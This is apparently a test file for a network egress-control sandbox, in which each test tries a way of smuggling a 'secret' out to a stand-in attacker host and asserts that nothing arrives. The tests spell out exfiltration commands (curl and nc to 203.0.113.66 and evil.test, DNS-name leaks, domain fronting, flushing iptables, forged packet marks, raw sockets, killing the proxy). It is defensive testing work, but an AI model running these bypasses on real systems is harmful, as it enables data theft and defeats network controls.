/** Ways out that were thought of. Each test is named after the attack; in each the attacker gets nothing. */

import assert from "node:assert/strict";
import type { Received } from "../../src/demo/received.ts";
import { inPython, inShell, reach, SENDING } from "../support/attack.ts";
import { events, none, some } from "../support/log.ts";
import { type Scene, suite } from "../support/suite.ts";

const test = suite();

/** A command that, without egress, trusts the demo's own authority. */
const trusting = (scene: Scene, script: string) => [
  ...["env", `CURL_CA_BUNDLE=${scene.internet.caFile}`, "bash", "-c", script],
];

/** A request that arrived somewhere: without egress nothing stands in its way. */
const reaches = (item: Received) => item.kind === "request";
test("attack: the attacker's address with the SNI of an allowed host", async (scene) => {
  const run = await inShell(
    scene,
    "curl -sSk -m 5 -d secret --resolve site.test:443:203.0.113.66 https://site.test/forged",
  );
  // What was decrypted may go to the real site, never to the address that only the client chose.
  const requests = (await scene.received()).filter((item) => item.kind === "request");
  for (const request of requests) assert.equal(request.host, "site.test");
  assert.ok(run.log.length > 0);
});

test("attack: the attacker's address with an allowed SNI, where TLS is passed through", async (scene) => {
  const command = [
    ...["curl", "-sSk", "-m", "5", "-d", "secret"],
    ...["--resolve", "site.test:443:203.0.113.66", "https://site.test/forged"],
  ];
  await reach(scene, command);
  const run = await scene.run({ policy: "site.test passthrough", command });
  // The claim is not believed: what was sent is decrypted, and goes to the real site or nowhere.
  none(run.log, { passthrough: true });
  none(run.log, { dst_ip: "203.0.113.66", policy: "allow" });
  await scene.attackerGotNothing();
});

test("attack: an allowed SNI with another Host (domain fronting)", async (scene) => {
  const script =
    "curl -sS -m 5 -w '%{http_code}' -d secret -H 'Host: evil.test' https://site.test/front";
  const control = trusting(scene, script);
  const run = await inShell(scene, script, { control, reaches });
  assert.equal(run.stdout.slice(-3), "421", run.stderr);
  assert.equal(some(run.log, { type: "https", policy: "deny" }).reason, "host_mismatch");
  assert.ok((await scene.received()).every((item) => item.kind !== "request"));
});

test("attack: an absolute request target that differs from Host", async (scene) => {
  await inShell(
    scene,
    "getent ahostsv4 site.test >/dev/null; " +
      "printf 'GET http://evil.test/x HTTP/1.1\\r\\nHost: site.test\\r\\n\\r\\n' | nc -N -w 3 198.51.100.20 80",
    { reaches },
  );
});

test("attack: a secret in the name of a lookup", async (scene) => {
  const run = await inShell(
    scene,
    "dig +tries=1 secret.evil.test; dig +tries=1 +tcp secret.evil.test; " +
      "dig +tries=1 TXT secret.evil.test; getent hosts secret.evil.test; " +
      "dig +tries=1 secret.site.test.evil.test",
  );
  assert.ok(events(run.log, { type: "dns", policy: "deny" }).length >= 5);
  assert.deepEqual(await scene.received(), []);
});

test("attack: a secret as a subdomain of an allowed host", async (scene) => {
  await inShell(
    scene,
    "dig +tries=1 secret.site.test; curl -sS https://secret.site.test/",
    { reaches: (item) => item.kind === "dns" && item.name === "secret.site.test" },
  );
  assert.deepEqual(await scene.received(), []);
});

test("attack: connecting to the proxy's own port", async (scene) => {
  const program = `
import re, socket, subprocess
rules = subprocess.run(["iptables-save", "-t", "nat"], capture_output=True, text=True).stdout
for port in {int(p) for p in re.findall(r"--to-ports (\\d+)", rules)}:
    s = socket.create_connection(("127.0.0.1", port), 3)
    s.settimeout(3)
    s.sendall(b"POST http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\nContent-Length: 6\\r\\n\\r\\nsecret")
    try: print(port, s.recv(100))
    except OSError as e: print(port, e)
print("ports tried")
`;
  const run = await inPython(scene, program, { control: null });
  assert.match(run.stdout, /^\d+ [^]*ports tried/, run.stderr);
  assert.ok(run.log.some((event) => event.policy === "deny"), "the attempt is in the log");
});

test("attack: root in the scope takes the firewall's rules out", async (scene) => {
  const run = await inShell(
    scene,
    "for t in nat mangle filter; do iptables -t $t -F; ip6tables -t $t -F; done; " +
      "iptables -t nat -X; iptables -P OUTPUT ACCEPT; " +
      "curl -sS -m 3 -d secret http://203.0.113.66/; curl -sSk -m 3 https://203.0.113.66/; " +
      "echo secret | nc -u -w 1 203.0.113.66 9000; echo secret | nc -N -w 2 203.0.113.66 9000; " +
      "dig +tries=1 +timeout=2 secret.evil.test; dig +tries=1 +timeout=2 +tcp secret.evil.test",
  );
  const dropped = some(run.log, { type: "gate", dst_ip: "203.0.113.66" });
  assert.equal(dropped.policy, "deny");
  assert.equal(dropped.reason, "gate");
});

test("attack: root in the scope puts an ACCEPT in front of the rules", async (scene) => {
  await inShell(
    scene,
    "for t in nat mangle filter; do iptables -t $t -I OUTPUT -j ACCEPT; done; " +
      "curl -sS -m 3 -d secret http://203.0.113.66/; echo secret | nc -u -w 1 203.0.113.66 9000; " +
      "dig +tries=1 +timeout=2 secret.evil.test",
  );
});

test("attack: root in the scope sets the marks of allowed packets", async (scene) => {
  const program = `
import re, socket, struct, subprocess
rules = subprocess.run(["iptables-save"], capture_output=True, text=True).stdout
marks = {int(m, 16) for m in re.findall(r"0x[0-9a-f]{4,8}", rules)} - {0xffffffff}
for mark in marks:
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        s = socket.socket(socket.AF_INET, kind)
        s.settimeout(2)
        s.setsockopt(socket.SOL_SOCKET, 36, struct.pack("=I", mark))
        try:
            s.connect(("203.0.113.66", 9000))
            s.send(b"secret")
        except OSError as e: print(e)
print(len(marks), "marks tried")
`;
  const run = await inPython(scene, program, { control: SENDING });
  assert.match(run.stdout, /[1-9]\d* marks tried/, run.stderr);
});

test("attack: raw IP sockets", async (scene) => {
  const program = `
import socket
for protocol in (socket.IPPROTO_RAW, socket.IPPROTO_ICMP, 132, 47, 253):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol)
        s.connect(("203.0.113.66", 0))
        payload = b"secret" * 5
        if protocol == socket.IPPROTO_RAW:
            head = bytes([0x45, 0, 0, 50, 0, 1, 0, 0, 64, 253, 0, 0]) + bytes([192, 0, 2, 2, 203, 0, 113, 66])
            payload = head + payload
        elif protocol == socket.IPPROTO_ICMP:
            payload = bytes([8, 0, 0, 0, 0, 1, 0, 1]) + payload
        s.send(payload)
        print(protocol, "sent")
    except OSError as e: print(protocol, e)
`;
  const run = await inPython(scene, program);
  assert.match(run.stdout, /^255 /m, run.stderr);
});

test("attack: a frame from a packet socket", async (scene) => {
  const program = `
import fcntl, socket, struct, subprocess
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0800)
subprocess.run(["dig", "+tries=1", "site.test"], capture_output=True)
neigh = subprocess.run(["ip", "neigh", "show", "192.0.2.1"], capture_output=True, text=True).stdout.split()
mac = bytes.fromhex(neigh[neigh.index("lladdr") + 1].replace(":", "")) if "lladdr" in neigh else b"\\xff" * 6
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff
payload = b"secret"
udp = struct.pack("!HHHH", 4444, 9000, 8 + len(payload), 0) + payload
head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
    socket.inet_aton("192.0.2.2"), socket.inet_aton("203.0.113.66"))
head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
try:
    s.sendto(head + udp, ("uplink", 0x0800, 0, 0, mac))
    print("sent")
except OSError as e: print(e)
`;
  await inPython(scene, program);
});

test("attack: IPv6, by TCP, UDP and ICMP", async (scene) => {
  const run = await inShell(
    scene,
    "curl -sS -m 3 -d secret 'http://[2001:db8:66::66]/'; " +
      "curl -sSk -m 3 'https://[2001:db8:66::66]/'; " +
      "echo secret | nc -6 -u -w 1 2001:db8:66::66 9000; " +
      "echo secret | nc -6 -N -w 2 2001:db8:66::66 9000",
  );
  assert.ok(run.log.some((event) => event.policy === "deny"), "the attempts are in the log");
});

test("attack: IPv6 with the rules taken out", async (scene) => {
  await inShell(
    scene,
    "for t in mangle filter; do ip6tables -t $t -F; done; " +
      "curl -sS -m 3 -d secret 'http://[2001:db8:66::66]/'; " +
      "echo secret | nc -6 -u -w 1 2001:db8:66::66 9000",
  );
});

test("attack: an IPv4 address in IPv6 clothes", async (scene) => {
  await inPython(
    scene,
    `
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    s = socket.socket(socket.AF_INET6, kind)
    s.settimeout(2)
    try:
        s.connect(("::ffff:203.0.113.66", 9000))
        s.send(b"secret")
        print(s.recv(9))
    except OSError as e: print(e)
`,
  );
});

test("attack: leaving the scope's cgroup", async (scene) => {
  await inShell(
    scene,
    "for root in /sys/fs/cgroup /sys/fs/cgroup/unified; do " +
      "[ -e $root/cgroup.procs ] && echo $$ >$root/cgroup.procs && break; done; " +
      "curl -sS -m 3 -d secret http://203.0.113.66/; echo secret | nc -u -w 1 203.0.113.66 9000",
  );
});

test("attack: a tunnel through an allowed UDP flow's port is still bound to its address", async (scene) => {
  const program = `
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
s.sendto(b"ping", ("198.51.100.80", 9000))
print(s.recv(9))
try:
    s.sendto(b"secret", ("203.0.113.66", 9000))
    print(s.recv(9))
except OSError as e: print(e)
`;
  const run = await scene.run({
    policy: "198.51.100.80:9000/udp",
    command: ["/usr/bin/python3", "-c", program],
  });
  assert.match(run.stdout, /^b'ping'\n/, run.stderr);
  await scene.attackerGotNothing();
});

test("attack: killing egress's own processes from inside", async (scene) => {
  await inShell(
    scene,
    "for p in $(ls /proc | grep -E '^[0-9]+$'); do " +
      "[ /proc/$p/ns/net -ef /proc/self/ns/net ] && " +
      "tr '\\0' ' ' </proc/$p/cmdline | grep -qE '/(kernel|engine|proxy)\\.js' && kill -9 $p; done; " +
      "curl -sS -m 3 -d secret http://203.0.113.66/; echo secret | nc -u -w 1 203.0.113.66 9000",
  );
});

test("attack: a socket bound to the network link", async (scene) => {
  await inShell(
    scene,
    "curl -sS -m 3 --interface uplink -d secret http://203.0.113.66/; " +
      "dig +tries=1 +timeout=2 -b 192.0.2.2 secret.evil.test",
  );
});

test("attack: data in the first packet of a connection (TCP Fast Open)", async (scene) => {
  await inPython(
    scene,
    `
import socket
open("/proc/sys/net/ipv4/tcp_fastopen", "w").write("1")
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(2)
try:
    s.sendto(b"secret", 0x20000000, ("203.0.113.66", 9000))
    print(s.recv(9))
except OSError as e: print(e)
`,
  );
});

test("attack: an allowed host as a forward proxy", async (scene) => {
  const run = await inShell(
    scene,
    "curl -sS -m 3 -x http://site.test:80 -d secret http://evil.test/; " +
      "curl -sSk -m 3 -x http://site.test:80 -d secret https://evil.test/",
    { reaches },
  );
  assert.ok((await scene.received()).every((item) => item.kind !== "request"));
  assert.equal(events(run.log, { type: "http", policy: "deny" }).length, 2);
});

test("attack: DNS over HTTPS inside an allowed host", async (scene) => {
  const script = "curl -sS -m 3 -w '%{http_code}' -H 'Content-Type: application/dns-message' " +
    "--data-binary secret https://site.test/dns-query";
  const control = trusting(scene, script);
  const run = await inShell(scene, script, { control, reaches });
  assert.equal(run.stdout.slice(-3), "403", run.stderr);
  some(run.log, { type: "https", policy: "deny", reason: "doh" });
  assert.ok((await scene.received()).every((item) => item.kind !== "request"));
});
